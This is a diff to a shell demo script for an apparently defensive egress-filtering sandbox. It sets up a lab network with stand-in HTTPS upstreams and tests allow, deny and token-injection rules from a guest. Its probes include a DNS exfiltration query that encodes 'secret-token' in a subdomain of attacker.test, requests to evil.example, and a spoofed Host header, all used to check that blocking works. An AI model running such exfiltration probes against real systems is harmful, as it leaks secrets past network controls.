@@ -22,10 +22,10 @@ WORK=$(mktemp -d /tmp/zeroness-demo.XXXXXX)
 LAB="$BUILD_DIR/tools/zn-lab/zn-lab --prefix $PREFIX"
 ZNCTL="$BUILD_DIR/tools/znctl/znctl --socket $WORK/zerod.sock --state-dir $WORK/state --pin-root /sys/fs/bpf/zeroness-$PREFIX"
 ZEROD_PID=""
-UPSTREAM_PID=""
+UPSTREAM_PIDS=()
 cleanup() {
   [ -n "$ZEROD_PID" ] && kill "$ZEROD_PID" 2> /dev/null && wait "$ZEROD_PID" 2> /dev/null || true
-  [ -n "$UPSTREAM_PID" ] && kill "$UPSTREAM_PID" 2> /dev/null || true
+  for pid in "${UPSTREAM_PIDS[@]}"; do kill "$pid" 2> /dev/null || true; done
   $LAB down > /dev/null 2>&1 || true
   rm -rf "$WORK"
 }
@@ -40,22 +40,33 @@ in_guest() {
 say "The lab: a stand-in internet (198.18.0.0/16), a host namespace, one guest behind TAP zn-tap0"
 $LAB up --guests 1 --ungoverned
 
-say "A real HTTPS upstream for registry.npmjs.org in the stand-in internet (certificate from a lab CA)"
+say "Real HTTPS upstreams in the stand-in internet (certificates from a lab CA zerod is told to trust)"
 openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout "$WORK/labca.key" \
   -out "$WORK/labca.pem" -days 1 -subj "/CN=lab upstream CA" 2> /dev/null
-openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout "$WORK/npm.key" -out "$WORK/npm.csr" \
-  -subj "/CN=registry.npmjs.org" 2> /dev/null
-echo "subjectAltName=DNS:registry.npmjs.org" > "$WORK/npm.ext"
-openssl x509 -req -in "$WORK/npm.csr" -CA "$WORK/labca.pem" -CAkey "$WORK/labca.key" -CAcreateserial \
-  -out "$WORK/npm.pem" -days 1 -extfile "$WORK/npm.ext" 2> /dev/null
-ip netns exec "$PREFIX-inet" openssl s_server -accept 198.18.0.12:443 -cert "$WORK/npm.pem" \
-  -key "$WORK/npm.key" -www -quiet > /dev/null 2>&1 &
-UPSTREAM_PID=$!
+for host in registry.npmjs.org api.github.com api.stripe.com; do
+  openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout "$WORK/$host.key" -out "$WORK/$host.csr" \
+    -subj "/CN=$host" 2> /dev/null
+  echo "subjectAltName=DNS:$host" > "$WORK/$host.ext"
+  openssl x509 -req -in "$WORK/$host.csr" -CA "$WORK/labca.pem" -CAkey "$WORK/labca.key" -CAcreateserial \
+    -out "$WORK/$host.pem" -days 1 -extfile "$WORK/$host.ext" 2> /dev/null
+done
+echo "  registry.npmjs.org 198.18.0.12: openssl s_server (spliced: the guest sees its own certificate)"
+ip netns exec "$PREFIX-inet" openssl s_server -accept 198.18.0.12:443 -cert "$WORK/registry.npmjs.org.pem" \
+  -key "$WORK/registry.npmjs.org.key" -www -quiet > /dev/null 2>&1 &
+UPSTREAM_PIDS+=($!)
+echo "  api.github.com 198.18.0.10, api.stripe.com 198.18.0.11: echo servers (they log what reached them)"
+for pair in api.github.com:198.18.0.10 api.stripe.com:198.18.0.11; do
+  host=${pair%%:*} addr=${pair##*:}
+  ip netns exec "$PREFIX-inet" python3 tests/support/echo_upstream.py "$addr" 443 "$WORK/upstream.log" \
+    "$WORK/$host.pem" "$WORK/$host.key" > /dev/null 2>&1 &
+  UPSTREAM_PIDS+=($!)
+done
 
 say "zerod starts in the host namespace (the lab's names resolve to the stand-in internet)"
 cat > "$WORK/zerod.json" << JSON
 { "netns": "$PREFIX-host", "pin_root": "/sys/fs/bpf/zeroness-$PREFIX",
   "state_dir": "$WORK/state", "control_socket": "$WORK/zerod.sock",
+  "upstream_ca_bundle": "$WORK/labca.pem",
   "dns_static": { "api.github.com": ["198.18.0.10"], "api.stripe.com": ["198.18.0.11"],
                   "registry.npmjs.org": ["198.18.0.12"], "db.internal": ["198.18.0.13"],
                   "evil.example": ["198.18.0.66"], "api.openai.com": ["198.18.0.10"] } }
@@ -76,12 +87,32 @@ in_guest 'dig evil.example @8.8.8.8 +tries=1 +time=2 | grep -o "status: [A-Z]*"'
 in_guest 'dig api.openai.com @8.8.8.8 +tries=1 +time=2 | grep -o "status: [A-Z]*"'
 in_guest 'dig c2VjcmV0LXRva2Vu.exfil.attacker.test +tries=1 +time=2 | grep -o "status: [A-Z]*"'
 
+# The guest trusts the deployment CA (zerod made it on first start) and the lab CA.
+cat "$WORK/labca.pem" "$WORK/state/ca/ca.pem" > "$WORK/guest-trust.pem"
+CURL="curl -s -m 5 --cacert $WORK/guest-trust.pem"
+
 say "HTTPS to an allowed host: steered to zerod's proxy, spliced to the upstream zerod resolved"
-in_guest "curl -s -m 5 --cacert $WORK/labca.pem https://registry.npmjs.org/ | head -2; echo '(answered by the upstream itself, with its own certificate)'"
-in_guest "curl -s -m 5 --cacert $WORK/labca.pem --resolve registry.npmjs.org:443:198.18.0.13 https://registry.npmjs.org/ | head -1; echo '(guest aimed at 198.18.0.13: zerod still went to the real host)'"
-say "HTTPS blocked by policy: the connection is reset"
-in_guest "curl -s -m 5 --resolve evil.example:443:198.18.0.13 https://evil.example/ || echo 'evil.example: reset (deny rule)'"
-in_guest "curl -s -m 5 -k https://api.stripe.com/ || echo 'api.stripe.com: reset (its rule injects identity: needs TLS interception, not built yet)'"
+in_guest "$CURL https://registry.npmjs.org/ | head -2; echo '(answered by the upstream itself, with its own certificate)'"
+in_guest "$CURL --resolve registry.npmjs.org:443:198.18.0.13 https://registry.npmjs.org/ | head -1; echo '(guest aimed at 198.18.0.13: zerod still went to the real host)'"
+
+say "1. api.github.com: GET /repos/** allowed — TLS terminated with a leaf of the deployment CA, request checked, forwarded"
+in_guest "$CURL -w ' -> %{http_code}\\n' https://api.github.com/repos/zeroness/zeroness"
+in_guest "$CURL -w ' -> %{http_code}\\n' -X DELETE https://api.github.com/repos/zeroness/zeroness"
+in_guest "$CURL -w ' -> %{http_code}\\n' https://api.github.com/user"
+in_guest "$CURL -w ' -> %{http_code}\\n' -H 'Host: api.stripe.com' https://api.github.com/repos/x"
+
+say "2. api.stripe.com: identity injected at egress — the guest sends its own token, the upstream gets the resource's"
+in_guest "$CURL -w ' -> %{http_code}\\n' -H 'Authorization: Bearer guest-made-up' -d amount=500 https://api.stripe.com/v1/charges"
+echo "  what reached the upstream (its log; the echo to the guest shows only a hash):"
+grep -o '"Authorization", "[^"]*"' "$WORK/upstream.log" | tail -1 | sed -E 's/(Bearer .{8})[^"]*/\1… (the resource'"'"'s token, shortened here)/; s/^/    /'
+echo "  the guest saw it? $($LAB exec g0 -- sh -c "$CURL -d a=1 https://api.stripe.com/v1/x" | grep -c sk_live || true) times"
+
+say "3. Under default deny: api.stripe.com without its rule -> 403 default deny"
+grep -v 'api.stripe.com' examples/policy.json > "$WORK/no-stripe.json"
+$ZNCTL session update user-1 --policy "$WORK/no-stripe.json" > /dev/null
+in_guest "$CURL -w ' -> %{http_code}\\n' --resolve api.stripe.com:443:198.18.0.11 https://api.stripe.com/v1/charges"
+in_guest "$CURL -w ' -> %{http_code}\\n' --resolve evil.example:443:198.18.0.13 https://evil.example/"
+$ZNCTL session update user-1 --policy examples/policy.json > /dev/null
 
 say "Everything else is dropped at the TAP"
 in_guest 'ping -c 1 -W 1 198.18.0.10 > /dev/null || echo "ping: blocked"'
